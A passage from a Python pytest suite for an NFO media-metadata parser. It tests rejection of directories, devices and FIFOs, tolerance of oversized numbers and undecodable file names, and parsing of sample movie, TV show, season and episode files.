    def test_directory_instead_of_file(self, tmp_path: Path) -> None:
        with pytest.raises(NfoError, match=r"cannot read file|not a regular file"):
            read_nfo(tmp_path)

    def test_device_refused(self) -> None:
        dev_zero = Path("/dev/zero")
        if not dev_zero.exists():
            pytest.skip("no /dev/zero")
        with pytest.raises(NfoError, match="not a regular file"):
            read_nfo(dev_zero)

    def test_fifo_does_not_hang(self, tmp_path: Path) -> None:
        if not hasattr(os, "mkfifo"):
            pytest.skip("no FIFOs on this platform")
        fifo = tmp_path / "pipe.nfo"
        os.mkfifo(fifo)
        with pytest.raises(NfoError, match="not a regular file"):
            read_nfo(fifo)

    def test_absurd_numbers_do_not_break_the_file(self) -> None:
        digits = "9" * 5000
        info = one(
            f"<episodedetails><title>T</title><season>{digits}</season><episode>{digits}</episode>"
            f"<runtime>{digits}</runtime><rating>{digits}</rating><votes>{digits}</votes>"
            f"<year>{digits}</year><runtime>{digits}:00</runtime>"
            f"<actor><name>A</name><order>{digits}</order></actor></episodedetails>"
        )
        assert info.title == "T"
        assert (info.season, info.episode, info.runtime_min, info.rating, info.votes) == (
            None,
            None,
            None,
            None,
            None,
        )
        assert info.year is None and info.people[0].order is None


# --- files on disk, speed, and the shared real-world samples ------------------------------------


def test_read_nfo_from_disk(tmp_path: Path) -> None:
    path = tmp_path / "Old Gods (2017).nfo"
    path.write_text(TVSHOW_XML, encoding="utf-8")
    infos = read_nfo(str(path))
    assert [i.title for i in infos] == ["Old Gods"]
    assert read_nfo(path) == infos


def test_surrogate_escaped_path(tmp_path: Path) -> None:
    name = "caf\udce9.nfo"  # undecodable byte 0xE9 as os.fsdecode gives it
    try:
        (tmp_path / name).write_bytes(MOVIE_XML.encode())
    except (OSError, UnicodeEncodeError):
        pytest.skip("file system refuses undecodable names")
    assert read_nfo(tmp_path / name)[0].title == "The Long Night"




def _shared(name: str) -> Path:
    path = SHARED_NFO_DIR / name
    if not path.is_file():
        pytest.skip(f"{path} not available")
    return path


@pytest.mark.skipif(not SHARED_NFO_DIR.is_dir(), reason="shared NFO samples not available")
class TestSharedSamples:
    def test_every_sample_parses_or_fails_cleanly(self) -> None:
        for path in sorted(SHARED_NFO_DIR.glob("*.nfo")):
            infos = read_nfo(path)
            assert infos, path
            assert all(i.kind in {"movie", "tvshow", "season", "episode", "link"} for i in infos)

    def test_movie(self) -> None:
        info = read_nfo(_shared("Justice League.nfo"))[0]
        assert info.kind == "movie" and info.title == "Justice League"
        assert info.year == 2017 and info.premiered == "2017-11-15"
        assert info.rating == pytest.approx(6.4) and info.votes == 335583
        assert info.ids["imdb"] == "tt0974015" and info.ids["tmdb"] == "141052"
        assert info.genres == ["Action", "Adventure", "Fantasy", "Sci-Fi"]
        assert info.countries == ["USA", "Canada", "UK"]
        assert info.set_name == "Justice League Collection"
        assert info.runtime_min == 120 and info.mpaa == "Australia:M"
        assert [p.name for p in persons(info, "director")] == ["Zack Snyder"]
        assert {"Jerry Siegel", "Joe Shuster"} <= {p.name for p in persons(info, "writer")}
        assert persons(info, "actor")[0] == Person("Ben Affleck", "actor", "Batman", 0)

    def test_tvshow(self) -> None:
        info = read_nfo(_shared("American Gods.nfo"))[0]
        assert info.kind == "tvshow" and info.title == "American Gods"
        assert info.ids["tmdb"] == "46639" and info.ids["tvdb"] == "253573"
        assert info.rating == pytest.approx(6.8) and info.votes == 581
        assert info.season is None and info.mpaa == "Australia:MA"
        assert "Sci-Fi & Fantasy" in info.genres

    def test_season(self) -> None:
        info = read_nfo(_shared("Season 01.nfo"))[0]
        assert info.kind == "season" and info.season == 1 and info.title == "Season 1"
        assert info.year == 2019 and info.ids == {"tvdb": "359728"}
        assert len(persons(info, "actor")) == 10

    def test_episode(self) -> None:
        info = read_nfo(_shared("The Bone Orchard.nfo"))[0]
        assert info.kind == "episode" and (info.season, info.episode) == (1, 1)
        assert info.show_title == "American Gods" and info.premiered == "2017-04-30"
        assert info.ids == {"tmdb": "1276153", "imdb": "tt5017734"}
        assert info.rating == pytest.approx(7.532)

    def test_link_only(self) -> None:
        info = read_nfo(_shared("Imdb.nfo"))[0]
        assert info.kind == "link" and info.ids == {"imdb": "tt0944947"}

    def test_escaped_text(self) -> None:
        info = read_nfo(_shared("Lilo & Stitch.nfo"))[0]
        assert info.title == "Lilo & Stitch" and info.set_name == "Lilo & Stitch Collection"
        assert info.plot is not None and info.plot.startswith(">>As Stitch")
